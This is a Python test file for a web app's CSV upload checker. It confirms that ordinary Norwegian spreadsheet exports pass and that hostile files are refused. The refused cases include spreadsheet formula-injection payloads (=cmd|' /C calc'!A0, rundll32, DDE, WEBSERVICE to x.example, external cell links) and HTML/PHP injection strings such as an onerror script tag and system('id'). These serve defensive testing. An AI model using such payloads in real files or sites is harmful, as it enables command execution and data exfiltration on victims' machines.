"""A text table is text with columns, and neither a page nor a program."""

from __future__ import annotations

import contextlib
import csv
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.evidence.judging import judge
from webapp.evidence.problems import FileRefused
from webapp.evidence.tables import check_table

SOUND = {
    "semicolons": "Fraksjon;Tonn\nTre;1,5\nGlass;0,2\n",
    "commas": 'name,tonnes\n"Wood, treated",1.5\n',
    "tabs": "Fraksjon\tTonn\nTre\t1,5\n",
    "bars": "Fraksjon|Tonn\nTre|-1,5|Bra!\n",
    "a heading above": "Avfall 2025\n\nFraksjon;Tonn\nTre;1,5\n",
    "line ends of Windows": "Fraksjon;Tonn\r\nTre;1,5\r\n",
    "a formula": "Sum;=A1+A2\n;=SUM(B1:B3)\n",
    "numbers below none": "a;-1\nb;+2\n",
    "an address of mail": "Navn;E-post\nKari;@kari\n",
    "smaller and larger": "Grense;< 5\nOver;> 5\n",
    "telephone numbers": "Navn;Telefon\nKari;+47 22 33 44 55\nOla;+4722334455\n",
    "numbers with signs": "a;-1 234,50\nb;+12 %\nc;-\nd;- 5\n",
    "a list in cells": "Tiltak;Merknad\n- Tre (papp);- Husk å sortere!\n- Glass;+ mva. | se under\n",
    "a number kept as text": 'Varenr;Tonn\n="00123";1,5\n',
    "words with the name of a function": "a;Bruk hyperlink(er)\nb;- se bildet\n",
    "a separator that is said": "sep=;\nFraksjon;Tonn\nTre;-1\n",
    "a line of stripes": "Avfall;Tonn\n------;----\n====;====\n",
    "a time": "Når;Hva\n-12:30;a\n2025-01-01;b\n",
    "an apostrophe before a number": "a;'-5\nb;'+4\n",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("text", SOUND.values(), ids=SOUND)
def test_what_programs_write_passes(text: str, encoding: str) -> None:
    assert judge(text.encode(encoding)).kind == "csv"


def test_norwegian_letters_pass_as_windows_writes_them() -> None:
    assert judge("Møbel;Ønske\nStål;på\n".encode("cp1252")).kind == "csv"


REFUSED = {
    "NUL": (b"a;b\x00\n", "unknown_type"),
    "an escape": (b"a;b\x1b[31m\n", "unknown_type"),
    "bytes that mean nothing": (b"a;b\x81\n", "unknown_type"),
    "half a sign of UTF-16": (b"\xff\xfea", "unknown_type"),
    "prose": (b"Dette er tekst\nog mer tekst\n", "unknown_type"),
    "line breaks": (b"\n\n\n", "unknown_type"),
    "a page": (b"a;b\n<html><body>;c\n", "markup"),
    "a page with spaces": (b"a;b\n< SCRIPT >;c\n", "markup"),
    "a page of Windows-1252": ("æ;b\n<iframe src=x>;".encode("cp1252"), "markup"),
    "a page of UTF-16": ("a;b\n<script>".encode("utf-16"), "markup"),
    "a picture that fetches": (b"a;<img src=x onerror=alert(1)>\n", "markup"),
    "a comment": (b"<!--a;b-->", "markup"),
    "a server's page": (b"a;b\n<?php system('id');\n", "markup"),
    "a shell script": (b"#!/bin/sh\na;b\n", "markup"),
    "PostScript": (b"%!PS\na;b\n", "markup"),
    "rich text": (b"{\\rtf1;a}\n;\n", "markup"),
    "a command": (b"a;=cmd|' /C calc'!A0\n", "commands"),
    "a command in quotes": (b"a,\"=cmd|'/C calc'!A0\"\n", "commands"),
    "a command behind a sum": (b"a;=2+5+cmd|' /C calc'!A0\n", "commands"),
    "a command in a function": (b"a;@SUM(cmd|'/c calc'!A0)\n", "commands"),
    "a command without quotes": (b"+cmd|calc!A0;b\n", "commands"),
    "a command with separators in it": (b"a;=rundll32|'URL.dll,OpenURL calc.exe'!A\n", "commands"),
    "the same between commas": (b"a,\"=rundll32|'URL.dll,OpenURL calc.exe'!A\"\n", "commands"),
    "the same after a plus": (b"a;+rundll32|'URL.dll,OpenURL calc.exe'!A\n", "commands"),
    "a command with spaces before the bar": (b"a;=cmd  |' /C calc'!A0\n", "commands"),
    "a command with a tab before the bar": (b"a;=cmd\t|' /C calc'!A0\n", "commands"),
    "a command after a tab": (b"a;\t=cmd|' /C calc'!A0\n", "commands"),
    "a command after a space of its own": ("a;\u00a0=cmd|'/C calc'!A0\n".encode(), "commands"),
    "a command after a sign that is not seen": ("a;\u200b=cmd|'/C calc'!A0\n".encode(), "commands"),
    "a command after a line break": (b"a;b\r=cmd|'/C calc'!A0\n", "commands"),
    "a command over lines": (b"a;\"=1+\ncmd|'/C calc'!A0\"\n", "commands"),
    "a command behind arguments": (b"a;\"=SUM(1;2)+cmd|'/C calc'!A0\"\n", "commands"),
    "a command after a quote that stands open": (b"a;\"b\n=cmd|'/C calc'!A0;\"c\n", "commands"),
    "a command after another separator": (b"sep=^\na;b\na;b^-cmd|'/C calc'!A0\n", "commands"),
    "a command after a wide sign": ("a;＝cmd|'/C calc'!A0\n".encode(), "commands"),
    "a command between bars": (b"a|b\na|\"=cmd|'/C calc'!A0\"\n", "commands"),
    "a page that is asked": (b'a;=WEBSERVICE("http://x.example/"&A1)\n', "commands"),
    "a page that is asked, in Norwegian": (b"a;=NETTJENESTE(A1)\n", "commands"),
    "a page that is asked after a minus": (b"a;-WEBSERVICE(A1)\n", "commands"),
    "a link": (b'a;"=HYPERLINK(""http://x.example"",""Se her"")"\n', "commands"),
    "a link between commas": (b"a,=hyperlink (A1)\n", "commands"),
    "a picture": (b'a;=IMAGE("http://x.example")\n', "commands"),
    "a table of elsewhere": (b'a;=IMPORTXML(A1;"//a")\n', "commands"),
    "a cell of another file": (b"a;='\\\\server\\[a.xlsx]Ark1'!A1\n", "commands"),
    "a cell of another sheet": (b"a;+Ark1!A1\n", "commands"),
    "a cell of another file of LibreOffice": (b"a;='file:///a.ods'#$Ark1.A1\n", "commands"),
    "a function of programs": (b'a;=DDE("soffice";A1;A2)\n', "commands"),
}


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_table_is_refused(data: bytes, code: str) -> None:
    with pytest.raises(FileRefused) as refused:
        check_table(data)

    assert refused.value.code == code


@pytest.mark.parametrize(
    "line",
    [
        "a;b;c",
        ",=a",
        "|=a|",
        "<" * 9,
        "< /",
        ";=" + "a" * 99,
        "-a|",
        "-a ",
        "='",
        "-" * 9,
        "=[",
        "' ",
        '"',
        "a!",
        "\n-!(",
    ],
    ids=repr,
)
def test_no_text_takes_long(line: str) -> None:
    data = (line * (2_000_000 // len(line))).encode()
    start = time.process_time()

    with contextlib.suppress(FileRefused):
        check_table(data)

    assert time.process_time() - start < 10


@given(st.binary(max_size=300))
def test_whatever_is_sent_passes_or_is_refused(data: bytes) -> None:
    code = "sound"
    try:
        check_table(data)
    except FileRefused as refused:
        code = refused.code

    assert code in ("sound", "unknown_type", "markup", "commands")


def test_a_small_table_sets_no_limit_for_what_the_process_reads_next() -> None:
    check_table(b"Grense (tonn);Tre\n1;2\n")

    assert next(csv.reader([f"{'x' * 100_000};1"], delimiter=";")) == ["x" * 100_000, "1"]
